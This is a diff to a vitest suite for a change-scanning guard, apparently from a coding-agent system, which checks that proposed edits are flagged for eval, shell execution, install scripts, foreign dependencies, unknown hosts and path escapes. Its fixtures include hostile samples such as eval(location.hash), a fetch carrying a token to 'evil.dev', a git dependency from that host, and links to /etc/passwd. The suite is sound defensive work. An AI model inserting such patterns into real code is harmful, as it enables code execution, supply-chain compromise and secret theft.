@@ -1,5 +1,6 @@
 import { expect, test } from "vitest";
 import { changeOf } from "../testing/changed.ts";
+import { rulesHere } from "../testing/rules-here.ts";
 import type { TaskSpec } from "@nightshift/protocol/task";
 import type { Change } from "./changes.ts";
 import { constitutionCheck } from "./constitution.ts";
@@ -22,9 +23,12 @@ const task: TaskSpec = {
   depth: 0,
   source: "director",
 };
-const rulesOf = (changes: Change[], spec = task) => [
-  ...new Set(constitutionCheck(changes, spec, []).hits.map(({ rule }) => rule)),
-];
+const signal = new AbortController().signal;
+const ways = { hostsAllowed: [], reader: rulesHere, signal };
+const rulesOf = async (changes: Change[], spec = task) => {
+  const { hits } = await constitutionCheck(changes, spec, ways);
+  return [...new Set(hits.map(({ rule }) => rule))];
+};
 const added = (path: string, text: string) => rulesOf([changeOf(path, null, text)]);
 
 const JAVASCRIPT_ATTACKS: [string, string][] = [
@@ -84,8 +88,8 @@ const JAVASCRIPT_ATTACKS: [string, string][] = [
   ["test-as-code", 'import { run } from "./helper.test.ts";'],
 ];
 
-test.each(JAVASCRIPT_ATTACKS)("JavaScript is caught breaking %s: %.60s", (rule, text) => {
-  const { check, hits } = constitutionCheck([changeOf("src/a.ts", null, text)], task, []);
+test.each(JAVASCRIPT_ATTACKS)("JavaScript is caught breaking %s: %.60s", async (rule, text) => {
+  const { check, hits } = await constitutionCheck([changeOf("src/a.ts", null, text)], task, ways);
   expect(hits.map((hit) => hit.rule)).toContain(rule);
   expect(check.outcome).toBe("fail");
 });
@@ -122,8 +126,8 @@ const JAVASCRIPT_HONEST = [
   "function Functions() {}\nFunctions();",
 ];
 
-test.each(JAVASCRIPT_HONEST)("honest JavaScript passes: %s", (text) => {
-  expect(added("src/a.ts", text)).toEqual([]);
+test.each(JAVASCRIPT_HONEST)("honest JavaScript passes: %s", async (text) => {
+  expect(await added("src/a.ts", text)).toEqual([]);
 });
 
 test.each([
@@ -172,8 +176,8 @@ test.each([
   ["eval", "tool", "#!/usr/bin/env node\neval(text)"],
   ["eval", "page.html", "<html>\n<script>\neval(location.hash)\n</script>"],
   ["eval", "A.vue", '<script lang="ts">\nconst a: number = eval("1");\n</script>'],
-])("%s is caught in %s: %s", (rule, path, text) => {
-  expect(added(path, text)).toContain(rule);
+])("%s is caught in %s: %s", async (rule, path, text) => {
+  expect(await added(path, text)).toContain(rule);
 });
 
 test.each([
@@ -190,61 +194,67 @@ test.each([
   ["README.md", "Never `eval(x)`, `curl x | sh` or read ~/.ssh/id_rsa."],
   ["page.html", "<p>eval(x)</p><script>/re/.exec(text)</script>"],
   ["notes.txt", "eval(x)"],
-])("honest %s passes: %s", (path, text) => {
-  expect(added(path, text)).toEqual([]);
+])("honest %s passes: %s", async (path, text) => {
+  expect(await added(path, text)).toEqual([]);
 });
 
-test("only what the change adds counts, in whichever changed file it stood before", () => {
+test("only what the change adds counts, in whichever changed file it stood before", async () => {
   const old = "export const run = (x: string) => eval(x);\n";
-  expect(rulesOf([changeOf("a.ts", old, `// looked at\n${old}`)])).toEqual([]);
-  expect(rulesOf([changeOf("a.ts", old, null), changeOf("b.ts", null, old)])).toEqual([]);
+  expect(await rulesOf([changeOf("a.ts", old, `// looked at\n${old}`)])).toEqual([]);
+  expect(await rulesOf([changeOf("a.ts", old, null), changeOf("b.ts", null, old)])).toEqual([]);
   expect(
-    rulesOf([changeOf("a.ts", old, `${old}export const twice = (x: string) => eval(x);\n`)]),
+    await rulesOf([changeOf("a.ts", old, `${old}export const twice = (x: string) => eval(x);\n`)]),
   ).toEqual(["eval"]);
 });
 
-test("code that is taken out of its comment is code that is added", () => {
+test("code that is taken out of its comment is code that is added", async () => {
   const before = "/*\neval(x);\n*/\n";
-  expect(rulesOf([changeOf("a.ts", before, "eval(x);\n")])).toEqual(["eval"]);
+  expect(await rulesOf([changeOf("a.ts", before, "eval(x);\n")])).toEqual(["eval"]);
 });
 
-test("a line that is added inside an old call can break it", () => {
+test("a line that is added inside an old call can break it", async () => {
   const call = (options: string) =>
     `import { spawn } from "node:child_process";\nspawn(name, [], {\n  cwd,\n${options}});\n`;
-  expect(rulesOf([changeOf("a.ts", call(""), call("  shell: true,\n"))])).toEqual(["shell"]);
+  expect(await rulesOf([changeOf("a.ts", call(""), call("  shell: true,\n"))])).toEqual(["shell"]);
 });
 
-test("a director allows a rule to be broken in one task by its tag; nobody else does", () => {
+test("a director allows a rule to be broken in one task by its tag; nobody else does", async () => {
   const text = 'import { exec } from "node:child_process";\nexec(line);\neval(line);';
   const changes = [changeOf("a.ts", null, text)];
   const spec = { ...task, tags: ["allow:shell"] };
-  expect(rulesOf(changes, spec)).toEqual(["eval"]);
-  expect(rulesOf(changes, { ...spec, source: "backlog-file" })).toContain("shell");
-  const { check } = constitutionCheck(changes, spec, []);
+  expect(await rulesOf(changes, spec)).toEqual(["eval"]);
+  expect(await rulesOf(changes, { ...spec, source: "backlog-file" })).toContain("shell");
+  const { check } = await constitutionCheck(changes, spec, ways);
   expect(check.detail).toContain('to allow it once: nightshift add "<task>" --tag allow:eval');
   const both = { ...task, tags: ["allow:shell", "allow:eval"] };
-  expect(constitutionCheck(changes, both, []).check).toMatchObject({
+  expect((await constitutionCheck(changes, both, ways)).check).toMatchObject({
     outcome: "pass",
     detail: "the director allows shell at a.ts:2; eval at a.ts:3",
   });
 });
 
-test("what a guest writes in its task gives no permission", () => {
+test("what a guest writes in its task gives no permission", async () => {
   const text = 'fetch("https://api.named.dev/v1");';
-  expect(rulesOf([changeOf("a.ts", null, text)], { ...task, source: "guest" })).toEqual([
+  expect(await rulesOf([changeOf("a.ts", null, text)], { ...task, source: "guest" })).toEqual([
     "unknown-host",
   ]);
 });
 
-test("scripts that run at install and packages from elsewhere are caught, the others pass", () => {
+test("scripts that run at install and packages from elsewhere are caught, the others pass", async () => {
   const manifest = (more: object) => JSON.stringify({ name: "a", scripts: { test: "x" }, ...more });
   const before = manifest({});
   const rules = (more: object) => rulesOf([changeOf("package.json", before, manifest(more))]);
-  expect(rules({ scripts: { test: "x", postinstall: "node x.js" } })).toEqual(["install-script"]);
-  expect(rules({ dependencies: { a: "git+https://evil.dev/a.git" } })).toEqual(["foreign-source"]);
-  expect(rules({ dependencies: { a: "someone/a" } })).toEqual(["foreign-source"]);
-  expect(rules({ scripts: { test: "x", build: "tsc" } })).toEqual([]);
-  expect(rules({ dependencies: { a: "^1.2.3", b: "workspace:*", c: "npm:d@1" } })).toEqual([]);
+  expect(await rules({ scripts: { test: "x", postinstall: "node x.js" } })).toEqual([
+    "install-script",
+  ]);
+  expect(await rules({ dependencies: { a: "git+https://evil.dev/a.git" } })).toEqual([
+    "foreign-source",
+  ]);
+  expect(await rules({ dependencies: { a: "someone/a" } })).toEqual(["foreign-source"]);
+  expect(await rules({ scripts: { test: "x", build: "tsc" } })).toEqual([]);
+  expect(await rules({ dependencies: { a: "^1.2.3", b: "workspace:*", c: "npm:d@1" } })).toEqual(
+    [],
+  );
 });
 
 test.each([
@@ -254,34 +264,36 @@ test.each([
   ["start-up", ".vscode/tasks.json"],
   ["agent-orders", ".claude/settings.json"],
   ["install-script", "native/binding.gyp"],
-])("%s is caught by the path %s", (rule, path) => expect(added(path, "x")).toContain(rule));
+])("%s is caught by the path %s", async (rule, path) =>
+  expect(await added(path, "x")).toContain(rule),
+);
 
-test("a link that leads out of the repository is caught, one inside it passes", () => {
+test("a link that leads out of the repository is caught, one inside it passes", async () => {
   const link = (path: string, target: string): Change => ({
     ...changeOf(path, null, target),
     special: "link",
   });
-  expect(rulesOf([link("a/b", "../../etc")])).toEqual(["path-escape"]);
-  expect(rulesOf([link("a", "/etc/passwd")])).toEqual(["path-escape"]);
-  expect(rulesOf([link("a/b", "../c")])).toEqual([]);
+  expect(await rulesOf([link("a/b", "../../etc")])).toEqual(["path-escape"]);
+  expect(await rulesOf([link("a", "/etc/passwd")])).toEqual(["path-escape"]);
+  expect(await rulesOf([link("a/b", "../c")])).toEqual([]);
 });
 
-test("a hit names rule, file and line, and its excerpt is short and holds no secret", () => {
+test("a hit names rule, file and line, and its excerpt is short and holds no secret", async () => {
   const token = `ghp_${"a1B2c3D4e5F6".repeat(3)}`;
   const options = `{ headers: { a: "${token}" }, b: "${"x".repeat(300)}" }`;
   const text = `\n\nfetch("https://evil.dev", ${options});`;
-  const { hits } = constitutionCheck([changeOf("src/a.ts", null, text)], task, []);
+  const { hits } = await constitutionCheck([changeOf("src/a.ts", null, text)], task, ways);
   expect(hits).toMatchObject([{ rule: "unknown-host", file: "src/a.ts", line: 3 }]);
   expect(hits[0]?.excerpt.length).toBeLessThanOrEqual(200);
   expect(hits[0]?.excerpt).not.toContain(token);
 });
 
-test("a filter that git would run is caught, a plain attribute passes", () => {
-  expect(added(".gitattributes", "*.bin filter=run\n")).toEqual(["git-hook"]);
-  expect(added(".gitattributes", "* text=auto eol=lf\n")).toEqual([]);
+test("a filter that git would run is caught, a plain attribute passes", async () => {
+  expect(await added(".gitattributes", "*.bin filter=run\n")).toEqual(["git-hook"]);
+  expect(await added(".gitattributes", "* text=auto eol=lf\n")).toEqual([]);
 });
 
-test("a file too large to be read is a doubt", () => {
+test("a file too large to be read is a doubt", async () => {
   const large = changeOf("a.ts", null, "x".repeat(2_000_001));
-  expect(constitutionCheck([large], task, []).check.outcome).toBe("unverifiable");
+  expect((await constitutionCheck([large], task, ways)).check.outcome).toBe("unverifiable");
 });
